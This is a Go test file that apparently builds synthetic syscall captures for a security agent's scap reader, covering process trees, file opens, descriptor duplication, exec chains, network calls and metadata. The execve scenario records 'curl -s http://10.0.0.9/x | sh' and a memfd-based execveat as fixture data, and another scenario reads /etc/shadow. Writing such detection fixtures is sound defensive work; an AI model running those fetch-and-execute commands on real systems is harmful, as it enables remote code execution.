package scap_test

import (
	"bytes"
	"net/netip"
	"testing"

	"github.com/falconer-sec/falconer/agent/scap"
	"github.com/falconer-sec/falconer/agent/scap/scaptest"
)

// The test captures, built with the Writer. Each scenario writes one
// capture; the golden files hold what the Reader decodes from it.

const t0 = 1_700_000_000_000_000_000

var (
	machine = scap.MachineInfo{NumCPUs: 2, MemorySizeBytes: 4 << 30, MaxPid: 4194304, Hostname: "vm", BootTime: 1_699_990_000_000_000_000}
	ifaces  = []scap.Interface{
		{Type: scap.IfIPv4, Name: "lo", Addr: netip.MustParseAddr("127.0.0.1"), Netmask: netip.MustParseAddr("255.0.0.0"), Broadcast: netip.MustParseAddr("127.255.255.255")},
		{Type: scap.IfIPv4, Name: "eth0", Addr: netip.MustParseAddr("10.0.2.15"), Netmask: netip.MustParseAddr("255.255.255.0"), Broadcast: netip.MustParseAddr("10.0.2.255"), LinkSpeed: 1000},
		{Type: scap.IfIPv6, Name: "eth0", Addr: netip.MustParseAddr("fe80::5054:ff:fe12:3456"), Netmask: netip.MustParseAddr("ffff:ffff:ffff:ffff::"), Broadcast: netip.IPv6Unspecified(), LinkSpeed: 1000},
		{Type: scap.IfIPv4NoLinkSpeed, Name: "docker0", Addr: netip.MustParseAddr("172.17.0.1"), Netmask: netip.MustParseAddr("255.255.0.0"), Broadcast: netip.MustParseAddr("172.17.255.255")},
	}
	users = []scap.User{
		{UID: 0, GID: 0, Name: "root", Home: "/root", Shell: "/bin/bash"},
		{UID: 1000, GID: 1000, Name: "alice", Home: "/home/alice", Shell: "/bin/zsh"},
	}
	groups = []scap.Group{{GID: 0, Name: "root"}, {GID: 1000, Name: "alice"}, {GID: 27, Name: "sudo"}}
)

func proc(tid, pid, ptid int64, comm, exepath string, args ...string) scap.Process {
	return scap.Process{
		Tid: tid, Pid: pid, Ptid: ptid, Sid: pid, Vpgid: pid, Pgid: pid,
		Comm: comm, Exe: comm, ExePath: exepath, Args: scap.JoinNUL(args...), Cwd: "/",
		FdLimit: 1024, Flags: uint32(scap.CloneChildCleartid | scap.CloneChildSettid), UID: 0, GID: 0,
		VmSizeKB: 21000, VmRSSKB: 5000, VmSwapKB: 0, PfMajor: 12, PfMinor: 3400,
		Env: scap.JoinNUL("PATH=/usr/bin:/bin", "HOME=/root"), Vtid: tid, Vpid: pid,
		Cgroups: scap.JoinNUL("cpuset=/", "memory=/system.slice/ssh.service"), Root: "/",
		PidnsInitStartTs: 1_699_990_000_000_000_000, Tty: 0, LoginUID: 0xFFFFFFFF,
		CapPermitted: 0x1ffffffffff, CapEffective: 0x1ffffffffff, ExeIno: 1234, ExeInoCtime: 1, ExeInoMtime: 2,
	}
}

// tables writes the common metadata of the scenarios.
func tables(w *scap.Writer, procs []scap.Process, fds []scap.FDList) error {
	if err := w.WriteMachine(machine); err != nil {
		return err
	}
	if err := w.WriteInterfaces(ifaces); err != nil {
		return err
	}
	if err := w.WriteUsers(users, groups); err != nil {
		return err
	}
	if err := w.WriteProcesses(procs); err != nil {
		return err
	}
	for _, l := range fds {
		if err := w.WriteFDs(l); err != nil {
			return err
		}
	}
	return nil
}

func stdio(tid int64) scap.FDList {
	return scap.FDList{Tid: tid, FDs: []scap.FD{
		{Num: 0, Ino: 5, Type: scap.FDFileV2, Name: "/dev/null", OpenFlags: uint32(scap.OpenReadOnly), Dev: 5},
		{Num: 1, Ino: 3, Type: scap.FDFileV2, Name: "/dev/pts/0", OpenFlags: uint32(scap.OpenReadWrite), Dev: 24},
		{Num: 2, Ino: 3, Type: scap.FDFileV2, Name: "/dev/pts/0", OpenFlags: uint32(scap.OpenReadWrite), Dev: 24},
	}}
}

type scenario struct {
	name  string
	write func(w *scap.Writer) error
}

var scenarios = []scenario{
	{"process_tree", writeProcessTree},
	{"relative_open", writeRelativeOpen},
	{"dup_close", writeDupClose},
	{"execve_chain", writeExecveChain},
	{"network", writeNetwork},
	{"meta", writeMeta},
	{"sections", writeSections},
}

// process_tree: init -> sshd -> bash (two threads) in the tables, a fork
// of bash with its exit, a vfork and a clone3 thread.
func writeProcessTree(w *scap.Writer) error {
	bash := proc(1200, 1200, 800, "bash", "/usr/bin/bash", "-l")
	bash.Tty, bash.LoginUID, bash.UID, bash.GID, bash.Cwd = 34816, 1000, 1000, 1000, "/home/alice"
	bashThread := bash
	bashThread.Tid, bashThread.Vtid = 1201, 1201
	procs := []scap.Process{
		proc(1, 1, 0, "systemd", "/usr/lib/systemd/systemd", "--system", "--deserialize", "30"),
		proc(800, 800, 1, "sshd", "/usr/sbin/sshd", "-D"),
		bash, bashThread,
	}
	procs[1].Flags = 0
	fds := []scap.FDList{stdio(1), stdio(800), stdio(1200), {Tid: 1201}}
	fds[1].FDs = append(fds[1].FDs, scap.FD{Num: 3, Ino: 77, Type: scap.FDIPv4ServSock, SrcIP: netip.IPv4Unspecified(), SrcPort: 22, L4Proto: scap.L4TCP})
	if err := tables(w, procs, fds); err != nil {
		return err
	}
	b := scaptest.NewBuilder(w, t0)
	fork := scaptest.Clone{Code: scap.SyscallForkV20X, Exe: "bash", Args: []string{"-l"}, Cwd: "/home/alice", UID: 1000, GID: 1000,
		Flags: scap.CloneChildCleartid | scap.CloneChildSettid, Cgroups: []string{"cpuset=/"}}
	steps := []func() error{
		func() error { c := fork; c.Res, c.Pid, c.Ptid = 1300, 1200, 800; return b.Clone(1200, c) },
		func() error { c := fork; c.Res, c.Pid, c.Ptid = 0, 1300, 1200; return b.Clone(1300, c) },
		func() error { return b.ProcExit(1300, 0, 0) },
		func() error {
			c := scaptest.Clone{Code: scap.SyscallVforkV20X, Res: 1301, Pid: 1200, Ptid: 800, Exe: "bash", Flags: scap.CloneVM | scap.CloneVfork, UID: 1000, GID: 1000}
			return b.Clone(1200, c)
		},
		func() error {
			c := scaptest.Clone{Code: scap.SyscallClone3X, Res: 0, Pid: 1200, Ptid: 800, Exe: "bash",
				Flags: scap.CloneVM | scap.CloneFS | scap.CloneFiles | scap.CloneSighand | scap.CloneThread | scap.CloneSysvsem, UID: 1000, GID: 1000}
			return b.Clone(1202, c)
		},
		func() error { return b.ProcExit(1202, 0, 1200) },
	}
	return run(steps)
}

func run(steps []func() error) error {
	for _, s := range steps {
		if err := s(); err != nil {
			return err
		}
	}
	return nil
}

// relative_open: opens relative to the cwd, to a directory fd, after
// chdir and fchdir, openat2 with resolve flags, and a failed open.
func writeRelativeOpen(w *scap.Writer) error {
	p := proc(2000, 2000, 1, "app", "/opt/app/bin/app")
	p.Cwd = "/srv/data"
	if err := tables(w, []scap.Process{p}, []scap.FDList{stdio(2000)}); err != nil {
		return err
	}
	b := scaptest.NewBuilder(w, t0)
	rd := scap.OpenReadOnly | scap.OpenCloexec
	return run([]func() error{
		func() error { return b.Openat(2000, 3, scap.AtFDCWD, "config/app.yaml", rd, 0) },
		func() error { return b.Openat(2000, 4, scap.AtFDCWD, "/etc", rd|scap.OpenDirectory, 0) },
		func() error { return b.Openat(2000, 5, 4, "shadow", scap.OpenReadOnly, 0) },
		func() error { return b.Openat(2000, -13, 4, "sudoers", scap.OpenReadOnly, 0) },
		func() error { return b.Chdir(2000, 0, "/var/log") },
		func() error {
			return b.Openat(2000, 6, scap.AtFDCWD, "../lib/app/state.db", scap.OpenReadWrite|scap.OpenCreate|scap.OpenFCreated, 0o600)
		},
		func() error { return b.Fchdir(2000, 0, 4) },
		func() error { return b.Openat(2000, 7, scap.AtFDCWD, "passwd", rd, 0) },
		func() error { return b.Open(2000, -2, "/nonexistent", scap.OpenReadOnly, 0) },
		func() error {
			return b.Event(scap.SyscallOpenat2X, 2000, scap.Int(8), scap.Int(4), scap.Str("hosts"), scap.Uint(uint64(rd)),
				scap.Uint(0), scap.Uint(0x08), scap.Uint(2049), scap.Uint(99))
		},
		func() error {
			return b.Event(scap.SyscallLinkatV2X, 2000, scap.Int(0), scap.Int(4), scap.Str("passwd"), scap.Int(scap.AtFDCWD), scap.Str("/srv/p"), scap.Uint(0))
		},
		func() error { return b.Close(2000, 4, 0) },
	})
}

// dup_close: dup, dup2 over stdout, dup3 with O_CLOEXEC, a pipe, a
// failed close and close_range.
func writeDupClose(w *scap.Writer) error {
	p := proc(3000, 3000, 1, "sh", "/bin/sh", "-c", "cat /etc/hosts >&2")
	if err := tables(w, []scap.Process{p}, []scap.FDList{stdio(3000)}); err != nil {
		return err
	}
	b := scaptest.NewBuilder(w, t0)
	return run([]func() error{
		func() error { return b.Openat(3000, 3, scap.AtFDCWD, "/etc/hosts", scap.OpenReadOnly, 0) },
		func() error { return b.Dup(3000, 4, 3) },
		func() error { return b.Dup2(3000, 1, 3, 1) },
		func() error { return b.Dup3(3000, 10, 4, 10, scap.OpenCloexec) },
		func() error { return b.Pipe2(3000, 5, 6, scap.OpenCloexec) },
		func() error { return b.Close(3000, 3, 0) },
		func() error { return b.Close(3000, 3, -9) },
		func() error {
			return b.Event(scap.SyscallCloseRangeX, 3000, scap.Int(0), scap.Uint(5), scap.Uint(0xFFFFFFFF), scap.Uint(0))
		},
		func() error {
			return b.Event(scap.SyscallFcntlX, 3000, scap.Int(11), scap.Int(10), scap.Uint(uint64(scap.FcntlDupfdCloexec)), scap.Uint(11))
		},
	})
}

// execve_chain: bash runs sh, which execs curl; a failed execve; an
// execveat from a memfd.
func writeExecveChain(w *scap.Writer) error {
	bash := proc(4000, 4000, 1, "bash", "/usr/bin/bash")
	bash.Cwd = "/root"
	if err := tables(w, []scap.Process{bash}, []scap.FDList{stdio(4000)}); err != nil {
		return err
	}
	b := scaptest.NewBuilder(w, t0)
	env := []string{"PATH=/usr/bin:/bin", "HOME=/root", "LD_PRELOAD="}
	cg := []string{"cpuset=/", "cpu=/", "memory=/system.slice/docker-0123456789ab.scope"}
	return run([]func() error{
		func() error {
			c := scaptest.Clone{Res: 4001, Pid: 4000, Ptid: 1, Exe: "bash", Cwd: "/root", Cgroups: cg}
			return b.Clone(4000, c)
		},
		func() error {
			c := scaptest.Clone{Res: 0, Pid: 4001, Ptid: 4000, Exe: "bash", Cwd: "/root", Cgroups: cg}
			return b.Clone(4001, c)
		},
		func() error {
			return b.Execve(4001, scaptest.Exec{Exe: "sh", Args: []string{"-c", "curl -s http://10.0.0.9/x | sh"}, ExePath: "/usr/bin/dash",
				Filename: "/bin/sh", Ptid: 4000, Env: env, Cgroups: cg, Tty: 34817, Login: true, LoginUID: 0, Flags: scap.ExeWritable})
		},
		func() error {
			return b.Execve(4001, scaptest.Exec{Res: -2, Exe: "sh", Args: []string{"-c", "curl -s http://10.0.0.9/x | sh"}, ExePath: "/usr/bin/dash",
				Filename: "/usr/local/bin/curl", Ptid: 4000, Env: env, Cgroups: cg})
		},
		func() error {
			return b.Execve(4001, scaptest.Exec{Exe: "curl", Args: []string{"-s", "http://10.0.0.9/x"}, ExePath: "/usr/bin/curl",
				Ptid: 4000, Env: env, Cgroups: cg, Flags: scap.ExeUpperLayer | scap.ExeLowerLayer})
		},
		func() error {
			// execveat has the execve parameters but no filename.
			return b.Event(scap.SyscallExecveatX, 4001, scap.Int(0), scap.Str("memfd:payload"), scap.Str(scap.JoinNUL("x")),
				scap.Int(4001), scap.Int(4001), scap.Int(4000), scap.Empty(), scap.Uint(1024), scap.Uint(0), scap.Uint(0),
				scap.Uint(100), scap.Uint(50), scap.Uint(0), scap.Str("3"), scap.Str(scap.JoinNUL(cg...)), scap.Str(scap.JoinNUL(env...)),
				scap.Uint(0), scap.Int(4001), scap.Int(-1), scap.Uint(uint64(scap.ExeFromMemfd)), scap.Uint(0), scap.Uint(0), scap.Uint(0),
				scap.Uint(9), scap.Uint(0), scap.Uint(0), scap.Uint(0), scap.Str("/memfd:payload (deleted)"), scap.Int(4001), scap.Uint(0))
		},
		func() error { return b.ProcExit(4001, 0, 0) },
	})
}

// network: IPv4, IPv6 and unix connects, an in-progress and a refused
// connect, a server's bind/listen/accept4, and sendto.
func writeNetwork(w *scap.Writer) error {
	p := proc(5000, 5000, 1, "curl", "/usr/bin/curl", "http://93.184.216.34/")
	srv := proc(5100, 5100, 1, "nginx", "/usr/sbin/nginx")
	fds := []scap.FDList{stdio(5000), stdio(5100)}
	fds[1].FDs = append(fds[1].FDs,
		scap.FD{Num: 6, Ino: 9001, Type: scap.FDIPv4ServSock, SrcIP: netip.MustParseAddr("0.0.0.0"), SrcPort: 80, L4Proto: scap.L4TCP},
		scap.FD{Num: 7, Ino: 9002, Type: scap.FDIPv6ServSock, SrcIP: netip.IPv6Unspecified(), SrcPort: 80, L4Proto: scap.L4TCP},
		scap.FD{Num: 8, Ino: 9003, Type: scap.FDIPv4Sock, SrcIP: netip.MustParseAddr("10.0.2.15"), DstIP: netip.MustParseAddr("10.0.2.2"), SrcPort: 80, DstPort: 51234, L4Proto: scap.L4TCP},
		scap.FD{Num: 9, Ino: 9004, Type: scap.FDUnixSock, Source: 0xffff88800a1b2c00, Dest: 0xffff88800a1b3d00, Name: "/run/nginx.sock"},
		scap.FD{Num: 10, Ino: 9005, Type: scap.FDEventpoll, Name: ""},
		scap.FD{Num: 11, Ino: 9006, Type: scap.FDIPv6Sock, SrcIP: netip.MustParseAddr("::1"), DstIP: netip.MustParseAddr("::1"), SrcPort: 8080, DstPort: 40000, L4Proto: scap.L4UDP},
	)
	if err := tables(w, []scap.Process{p, srv}, fds); err != nil {
		return err
	}
	b := scaptest.NewBuilder(w, t0)
	local := netip.MustParseAddrPort("10.0.2.15:40312")
	remote := netip.MustParseAddrPort("93.184.216.34:80")
	return run([]func() error{
		func() error { return b.Socket(5000, 3, scap.AFInet, 1, 6) },
		func() error { return b.Connect(5000, 3, 0, local, remote) },
		func() error {
			return b.Event(scap.SocketSendtoX, 5000, scap.Int(18), scap.Str("GET / HTTP/1.1\r\n\r\n"), scap.Int(3), scap.Uint(18), scap.Tuple(scap.InetTuple(local, remote)))
		},
		func() error { return b.Socket(5000, 4, scap.AFInet6, 1, 6) },
		func() error {
			return b.Connect(5000, 4, -115, netip.MustParseAddrPort("[2001:db8::15]:50000"), netip.MustParseAddrPort("[2001:db8::1]:443"))
		},
		func() error { return b.Socket(5000, 5, scap.AFInet, 1, 6) },
		func() error { return b.Connect(5000, 5, -111, local, netip.MustParseAddrPort("127.0.0.1:9")) },
		func() error { return b.Socket(5000, 6, scap.AFUnix, 1, 0) },
		func() error { return b.ConnectUnix(5000, 6, 0, "/var/run/docker.sock") },
		func() error {
			return b.Event(scap.SocketBindX, 5100, scap.Int(0), scap.Addr(scap.InetAddr(netip.MustParseAddrPort("0.0.0.0:8080"))), scap.Int(12))
		},
		func() error { return b.Event(scap.SocketListenX, 5100, scap.Int(0), scap.Int(12), scap.Int(511)) },
		func() error {
			t := scap.InetTuple(netip.MustParseAddrPort("10.0.2.2:51999"), netip.MustParseAddrPort("10.0.2.15:8080"))
			return b.Event(scap.SocketAccept4V6X, 5100, scap.Int(13), scap.Tuple(t), scap.Uint(0), scap.Uint(0), scap.Uint(511), scap.Int(0))
		},
	})
}

// meta: the user/group events captures carry after the tables, a
// large-payload async event, a state-only event in an EVF block, a
// ptrace attach, and a PT_SOCKFAMILY-free enum (socket domain).
func writeMeta(w *scap.Writer) error {
	if err := tables(w, []scap.Process{proc(6000, 6000, 1, "gdb", "/usr/bin/gdb", "-p", "1")}, nil); err != nil {
		return err
	}
	b := scaptest.NewBuilder(w, t0)
	big := bytes.Repeat([]byte("{\"container\":1}"), 5000) // 75 KB: needs u32 lengths
	return run([]func() error{
		func() error { return b.UserAdded(users[0], "") },
		func() error {
			return b.UserAdded(scap.User{UID: 1001, GID: 1001, Name: "bob", Home: "/home/bob", Shell: "/bin/sh"}, "0123456789ab")
		},
		func() error { return b.GroupAdded(groups[2], "") },
		func() error {
			return b.Event(scap.AsynceventE, scap.NoTid, scap.Uint(3), scap.Str("container"), scap.Bytes(big))
		},
		func() error {
			err := w.WriteEventFlags(scap.SyscallCloseX, b.TS, 6000, 1, scap.DumpStateOnly, scap.Int(0), scap.Int(7))
			b.TS += b.Step
			return err
		},
		func() error { return b.Ptrace(6000, 0, scap.PtraceAttach, 1) },
		func() error { return b.Ptrace(6000, -1, scap.PtraceTraceme, 0) },
		func() error {
			return b.Event(scap.SyscallChmodX, 6000, scap.Int(0), scap.Str("/srv/x"), scap.Uint(uint64(scap.ModeIRUSR|scap.ModeIWUSR|scap.ModeIXUSR|scap.ModeISUID)))
		},
	})
}

// sections: two concatenated captures with different tables.
func writeSections(w *scap.Writer) error {
	if err := tables(w, []scap.Process{proc(7000, 7000, 1, "first", "/bin/first")}, []scap.FDList{stdio(7000)}); err != nil {
		return err
	}
	b := scaptest.NewBuilder(w, t0)
	if err := b.Openat(7000, 3, scap.AtFDCWD, "/etc/first", scap.OpenReadOnly, 0); err != nil {
		return err
	}
	if err := w.NewSection(); err != nil {
		return err
	}
	m := machine
	m.Hostname = "other"
	if err := w.WriteMachine(m); err != nil {
		return err
	}
	if err := w.WriteProcesses([]scap.Process{proc(8000, 8000, 1, "second", "/bin/second")}); err != nil {
		return err
	}
	if err := w.WriteFDs(scap.FDList{Tid: 8000}); err != nil {
		return err
	}
	return b.Openat(8000, 3, scap.AtFDCWD, "/etc/second", scap.OpenReadOnly, 0)
}

// build writes a scenario into memory.
func build(t testing.TB, s scenario, opts scap.WriterOptions) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := scap.NewWriter(&buf, opts)
	if err := s.write(w); err != nil {
		t.Fatalf("%s: write: %v", s.name, err)
	}
	if err := w.Close(); err != nil {
		t.Fatalf("%s: close: %v", s.name, err)
	}
	return buf.Bytes()
}
